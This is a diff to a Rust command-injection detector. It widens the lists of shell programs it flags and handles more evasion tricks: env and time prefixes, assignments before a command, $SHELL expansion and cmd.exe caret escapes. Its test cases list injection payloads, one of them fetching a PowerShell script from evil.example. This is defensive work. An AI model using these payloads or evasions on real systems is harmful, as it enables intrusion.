@@ -42,6 +42,8 @@ const PROGRAMS: &[&str] = &[
     "ifup",
     "ipconfig",
     "iptables",
+    "irm",
+    "iwr",
     "ksh",
     "ls",
     "lsb_release",
@@ -58,6 +60,7 @@ const PROGRAMS: &[&str] = &[
     "ping.exe",
     "powershell",
     "powershell.exe",
+    "printenv",
     "pwd",
     "pwsh",
     "python",
@@ -84,6 +87,7 @@ const PROGRAMS: &[&str] = &[
     "uname",
     "uptime",
     "useradd",
+    "vim",
     "wevtutil",
     "wget",
     "whoami",
@@ -140,17 +144,23 @@ const WORD_PROGRAMS: &[&str] = &[
     "tac",
     "tail",
     "tar",
+    "tee",
     "test",
     "time",
     "timeout",
     "touch",
     "type",
     "unzip",
+    "ver",
+    "vi",
     "w",
     "who",
     "whoami.exe",
     "zip",
 ];
+
+/// Word programs that run the command that follows them (`time sh -c id`, `env X=1 id`).
+const PREFIXES: &[&[u8]] = &[b"command", b"env", b"exec", b"nice", b"time", b"timeout"];
 
 /// Word programs whose first argument may be a plain number (`sleep 5`, `ping 10.0.0.1`).
 const NUMBER_TAKERS: &[&[u8]] = &[b"sleep", b"ping", b"timeout", b"kill", b"expr"];
@@ -171,8 +181,11 @@ const MAX_WORD: usize = 64;
 /// What started a command.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Opener {
-    /// `;`, `|`, `&&`, `||`, a line break or a backtick.
+    /// `;`, `|`, `&&`, `||` or a backtick.
     Separator,
+    /// A line break, or `\n` written out: a `;` may end the command that follows (`\nid;`),
+    /// which after a `;` would be a user agent's token list.
+    LineBreak,
     /// A lone `&`: also what separates a query's parameters.
     Ampersand,
     /// `$(`, `<(` or `>(`: the command may end at `)`.
@@ -187,11 +200,14 @@ enum Opener {
 fn command_start(text: &[u8], i: usize) -> Option<(usize, Opener)> {
     let next = text.get(i + 1).copied();
     match text[i] {
-        b';' | b'|' | b'\n' | b'\r' | b'`' => Some((i + 1, Opener::Separator)),
-        b'\\' if matches!(next, Some(b'n' | b'r')) => Some((i + 2, Opener::Separator)),
+        b';' | b'|' | b'`' => Some((i + 1, Opener::Separator)),
+        b'\n' | b'\r' => Some((i + 1, Opener::LineBreak)),
+        b'\\' if matches!(next, Some(b'n' | b'r')) => Some((i + 2, Opener::LineBreak)),
         b'&' if next == Some(b'&') || (i > 0 && text[i - 1] == b'&') => {
             Some((i + 1, Opener::Separator))
         }
+        // A parameter's name never starts with a blank.
+        b'&' if matches!(next, Some(b' ' | b'\t')) => Some((i + 1, Opener::Separator)),
         b'&' => Some((i + 1, Opener::Ampersand)),
         b'$' | b'<' | b'>' if next == Some(b'(') => Some((i + 2, Opener::Paren)),
         b'=' => Some((i + 1, Opener::Value)),
@@ -209,20 +225,99 @@ fn command_at(text: &[u8], start: usize, opener: Opener, word: &mut Vec<u8>) -> 
         return false;
     };
     if text.get(end) == Some(&b'=') {
-        // `name=`: an assignment to the shell, a parameter's name in a query.
-        return false;
+        // `name=`: a parameter's name in a query; after a separator, an assignment that may
+        // precede a command (`LD_DEBUG=help id`).
+        return opener != Opener::Value
+            && opener != Opener::Ampersand
+            && command_after_assignment(text, end, opener, word);
     }
     word.make_ascii_lowercase();
     let name = program_name(word);
-    let is = |list: &[&str]| list.binary_search_by(|p| p.as_bytes().cmp(name)).is_ok();
+    let is = |list: &[&str]| listed(list, name);
     let numbers = NUMBER_TAKERS.contains(&name);
     if opener == Opener::Value {
-        return (is(PROGRAMS) || is(WORD_PROGRAMS)) && arguments_follow(text, end, numbers);
+        let program = is(PROGRAMS) || is(WORD_PROGRAMS);
+        return program
+            && (arguments_follow(text, end, numbers) || program_follows(text, end, word));
     }
     if is(PROGRAMS) || glob_of_system_path(word) {
         return true;
     }
-    is(WORD_PROGRAMS) && command_line_follows(text, end, opener, numbers)
+    let (word_program, prefix) = (is(WORD_PROGRAMS), PREFIXES.contains(&name));
+    (word_program
+        && (command_line_follows(text, end, opener, numbers) || brace_list(text, start, end)))
+        || (prefix && command_after_prefix(text, end, opener, word))
+}
+
+/// Whether the value of an assignment whose `=` is at `eq` is followed, after a blank, by a
+/// command.
+fn command_after_assignment(text: &[u8], eq: usize, opener: Opener, word: &mut Vec<u8>) -> bool {
+    let value_end = text[eq..]
+        .iter()
+        .position(|c| matches!(c, b' ' | b'\t' | b';' | b'|' | b'&' | b'\n'))
+        .map_or(text.len(), |n| eq + n);
+    text.get(value_end)
+        .is_some_and(|c| matches!(c, b' ' | b'\t'))
+        && command_word_at(text, value_end, opener, word)
+}
+
+/// Whether a prefix program whose name ends at `end` runs a command: its options and numbers
+/// skipped, the next word is judged as a command of its own.
+fn command_after_prefix(text: &[u8], end: usize, opener: Opener, word: &mut Vec<u8>) -> bool {
+    let mut i = end;
+    loop {
+        let j = skip_blanks(text, i);
+        if j == i && i > end {
+            break;
+        }
+        let token = text[j..]
+            .iter()
+            .position(|c| matches!(c, b' ' | b'\t'))
+            .map_or(text.len(), |n| j + n);
+        if text.get(j) == Some(&b'-') || text[j..token].iter().all(u8::is_ascii_digit) {
+            if token == j || token == text.len() {
+                return false;
+            }
+            i = token;
+            continue;
+        }
+        i = j;
+        break;
+    }
+    i > end && command_word_at(text, i, opener, word)
+}
+
+/// [`command_at`] for a word that follows a prefix or an assignment (one level only: what follows
+/// is judged without looking further).
+fn command_word_at(text: &[u8], start: usize, opener: Opener, word: &mut Vec<u8>) -> bool {
+    let Some(end) = read_word(text, start, word) else {
+        return false;
+    };
+    word.make_ascii_lowercase();
+    let name = program_name(word);
+    listed(PROGRAMS, name)
+        || (listed(WORD_PROGRAMS, name)
+            && command_line_follows(text, end, opener, NUMBER_TAKERS.contains(&name)))
+}
+
+/// Whether the word that ends at `end` opened a brace list (`{echo,hello}`): shell syntax only.
+fn brace_list(text: &[u8], start: usize, end: usize) -> bool {
+    text.get(skip_blanks(text, start)) == Some(&b'{') && text.get(end) == Some(&b',')
+}
+
+/// Whether `name` is in `list` (sorted).
+fn listed(list: &[&str], name: &[u8]) -> bool {
+    list.binary_search_by(|p| p.as_bytes().cmp(name)).is_ok()
+}
+
+/// Whether a `\n` or `\r` written out at `i` ends the word read so far (the payload's line
+/// break) rather than escaping a letter inside it (`u\name`): it does when no letter follows or
+/// the word already names a program.
+fn written_line_break_ends(text: &[u8], i: usize, word: &[u8]) -> bool {
+    matches!(text.get(i + 1), Some(b'n' | b'r'))
+        && (!text.get(i + 2).is_some_and(u8::is_ascii_alphanumeric)
+            || listed(PROGRAMS, word)
+            || listed(WORD_PROGRAMS, word))
 }
 
 /// The word at `start` as a shell reads it (blanks before it skipped) into `word`, and where it
@@ -235,7 +330,9 @@ fn read_word(text: &[u8], start: usize, word: &mut Vec<u8>) -> Option<usize> {
     word.clear();
     while i < text.len() && word.len() < MAX_WORD {
         match text[i] {
-            b'\'' | b'"' => i += 1,
+            // Quotes, and cmd.exe's escape `^`, are removed.
+            b'\'' | b'"' | b'^' => i += 1,
+            b'\\' if written_line_break_ends(text, i, word) => break,
             b'\\' => {
                 if let Some(&c) = text.get(i + 1).filter(|c| c.is_ascii_alphanumeric()) {
                     word.push(c);
@@ -244,6 +341,10 @@ fn read_word(text: &[u8], start: usize, word: &mut Vec<u8>) -> Option<usize> {
             }
             b'$' => match expansion(text, i) {
                 Expansion::Empty(n) => i += n,
+                Expansion::Shell(n) => {
+                    word.extend_from_slice(b"sh");
+                    i += n;
+                }
                 Expansion::Blank(_) | Expansion::Other => break,
             },
             c if c.is_ascii_alphanumeric() || b"./_-*?[]~:".contains(&c) => {
@@ -262,6 +363,8 @@ enum Expansion {
     Empty(usize),
     /// A blank (`$IFS`, `${IFS}`, `${IFS%??}`).
     Blank(usize),
+    /// The running shell (`$0`, `$SHELL`, `$BASH`, `${SHELL}`).
+    Shell(usize),
     /// Something else (a lone `$`).
     Other,
 }
@@ -270,10 +373,14 @@ fn expansion(text: &[u8], i: usize) -> Expansion {
     let rest = &text[i + 1..];
     let lower = |n: usize| rest[..n.min(rest.len())].to_ascii_lowercase();
     match rest.first() {
-        Some(b'@' | b'*' | b'0'..=b'9') => Expansion::Empty(2),
+        Some(b'0') => Expansion::Shell(2),
+        Some(b'@' | b'*' | b'1'..=b'9') => Expansion::Empty(2),
         Some(b'(') if rest.get(1) == Some(&b')') => Expansion::Empty(3),
         Some(b'{') => match rest.iter().position(|&c| c == b'}') {
             Some(close) if lower(4) == b"{ifs" => Expansion::Blank(close + 2),
+            Some(close) if matches!(&lower(close + 1)[..], b"{shell}" | b"{bash}") => {
+                Expansion::Shell(close + 2)
+            }
             Some(close) => Expansion::Empty(close + 2),
             None => Expansion::Other,
         },
@@ -284,6 +391,8 @@ fn expansion(text: &[u8], i: usize) -> Expansion {
                 .count();
             if lower(n) == b"ifs" {
                 Expansion::Blank(n + 1)
+            } else if matches!(&lower(n)[..], b"shell" | b"bash") {
+                Expansion::Shell(n + 1)
             } else {
                 Expansion::Empty(n + 1)
             }
@@ -299,7 +408,7 @@ fn skip_blanks(text: &[u8], mut i: usize) -> usize {
             b' ' | b'\t' => i += 1,
             b'$' => match expansion(text, i) {
                 Expansion::Blank(n) | Expansion::Empty(n) => i += n,
-                Expansion::Other => break,
+                Expansion::Shell(_) | Expansion::Other => break,
             },
             _ => break,
         }
@@ -340,10 +449,12 @@ fn command_line_follows(text: &[u8], end: usize, opener: Opener, numbers: bool) 
     };
     let blank = i > end;
     match c {
-        b'|' | b'`' | b'<' | b'>' | b'\n' | b'\r' => true,
+        // A NUL ends the string where a C library reads it.
+        b'|' | b'`' | b'<' | b'>' | b'\n' | b'\r' | b'\0' => true,
         b'\\' if matches!(text.get(i + 1), Some(b'n' | b'r')) => true,
         b')' => opener == Opener::Paren,
         b'&' => text.get(i + 1) == Some(&b'&'),
+        b';' => opener == Opener::LineBreak,
         b',' => matches!(
             text.get(i + 1),
             Some(b'/' | b'-' | b'$' | b'~' | b'0'..=b'9')
@@ -352,10 +463,23 @@ fn command_line_follows(text: &[u8], end: usize, opener: Opener, numbers: bool) 
         b'.' => blank && matches!(text.get(i + 1), Some(b'/' | b'.')),
         b'0'..=b'9' => blank && numbers,
         b'a'..=b'z' | b'A'..=b'Z' => {
-            blank && text.get(i + 1) == Some(&b':') && matches!(text.get(i + 2), Some(b'\\' | b'/'))
+            (blank
+                && text.get(i + 1) == Some(&b':')
+                && matches!(text.get(i + 2), Some(b'\\' | b'/')))
+                || (blank && opener == Opener::Paren && plain_words_close(&text[i..]))
         }
         _ => false,
     }
+}
+
+/// Whether `rest` is plain arguments (words, paths) up to the `)` that closes a substitution
+/// (`>(tee log)`): a function call in a script has its arguments between parentheses too, but not
+/// after its name and a blank inside a `$(`.
+fn plain_words_close(rest: &[u8]) -> bool {
+    rest.iter()
+        .take(MAX_WORD)
+        .position(|c| !(c.is_ascii_alphanumeric() || b" \t._/-".contains(c)))
+        .is_some_and(|n| rest[n] == b')')
 }
 
 /// Whether a blank (a space, a tab, or a `$` that may be `$IFS`) comes before the `&` that ends a
@@ -385,6 +509,15 @@ fn arguments_follow(text: &[u8], end: usize, numbers: bool) -> bool {
             }
             _ => false,
         }
+}
+
+/// Whether a word at `end` is followed, after a blank, by a program whose name is never a word
+/// (`powershell whoami`, `exec whoami`).
+fn program_follows(text: &[u8], end: usize, word: &mut Vec<u8>) -> bool {
+    let i = skip_blanks(text, end);
+    i > end
+        && read_word(text, i, word).is_some()
+        && listed(PROGRAMS, program_name(&word.to_ascii_lowercase()))
 }
 
 #[cfg(test)]
@@ -421,6 +554,21 @@ mod tests {
             "a|powershell -enc abc",
             "a;ping\t127.0.0.1",
             "a;$u\\who$@am$()i",
+            "\\nid\\n",
+            "x\\nid;",
+            "x;id\\n",
+            "a;u\\name -a",
+            "|id\0",
+            "x& ver",
+            ";{echo,hello}",
+            ";time sh -c whoami",
+            ";nice -n 10 timeout 5 id",
+            ";$SHELL -c \"id\"",
+            "x;${shell} -c id",
+            ">(tee log)",
+            ";LD_DEBUG=help id",
+            ";c^m^d /c dir",
+            ";iwr http://evil.example/a.ps1",
         ] {
             assert!(injected(s.as_bytes()), "{s}");
         }
@@ -461,6 +609,9 @@ mod tests {
             "?q=python tutorial&page=2",
             "?lang=sh&sort=date",
             "?q=sleep 8 hours",
+            "what time is it; time to go",
+            "$(document).ready(function(){})",
+            "a;x=1 b",
             "curl/7.68.0",
             "wget/1.21.2 (linux-gnu)",
             "python-requests/2.31.0",
@@ -477,6 +628,8 @@ mod tests {
             "?x=1&t=sleep 5",
             "ls -la /var/www",
             "/files/cat /etc/hosts",
+            "?c=powershell whoami",
+            "?c=exec whoami",
         ] {
             assert!(injected(s.as_bytes()), "{s}");
         }
